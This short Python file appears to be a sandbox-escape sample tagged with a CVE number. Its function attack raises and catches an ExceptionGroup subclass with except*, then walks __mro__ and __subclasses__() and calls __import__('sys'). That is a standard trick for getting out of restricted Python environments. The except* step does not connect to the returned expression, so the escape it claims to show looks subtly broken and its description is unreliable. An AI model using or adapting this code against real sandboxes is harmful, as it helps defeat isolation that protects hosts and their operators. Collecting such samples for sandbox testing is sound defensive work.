"""Class: exceptions. Source: CVE-2025-22153. Escape: except* and group subclasses confuse types."""


class G(ExceptionGroup):
    def derive(self, excs):
        return G("x", excs)


def attack(model, tokenizer, address):
    try:
        raise G("g", [ValueError()])
    except* ValueError as e:
        pass
    return G.split.__class__.__mro__[-1].__subclasses__()[0].__init__ and __import__("sys")
